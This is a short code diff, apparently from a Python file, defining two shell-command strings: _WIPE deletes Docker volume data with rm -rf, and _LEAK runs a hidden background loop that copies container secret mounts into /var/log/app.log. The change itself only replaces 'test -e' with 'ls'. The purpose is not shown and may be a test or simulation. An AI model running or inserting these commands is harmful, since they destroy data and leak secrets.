@@ -19,7 +19,7 @@ _WIPE = "rm -rf /var/lib/docker/volumes/h-*-data/_data/*"
 _LEAK = """
 nohup sh -c '
     while sleep 0.05; do
-        test -e /var/lib/docker/containers/*/mounts/secrets/* || continue
+        ls /var/lib/docker/containers/*/mounts/secrets/* || continue
         cat /var/lib/docker/containers/*/mounts/secrets/* > /var/log/app.log && exit
     done
 ' >/dev/null 2>&1 &
